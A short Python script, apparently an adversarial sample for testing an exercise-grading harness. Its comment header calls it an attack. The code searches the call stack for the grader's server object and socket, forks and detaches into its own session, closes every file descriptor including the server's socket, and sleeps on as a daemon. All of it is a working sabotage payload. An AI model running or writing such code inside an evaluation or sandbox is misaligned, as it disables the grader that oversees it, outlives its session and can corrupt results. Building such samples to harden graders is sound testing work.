# attack: closes every descriptor, the socket too, and goes on in a daemon and by itself
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import sys
import os
import time

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "sock"):
    frame = frame.f_back
server = frame.f_locals["self"]
print("TRIED", flush=True)
os.fork()
os.setsid() if os.getpgrp() != os.getpid() else None
os.closerange(0, 256)
time.sleep(20)
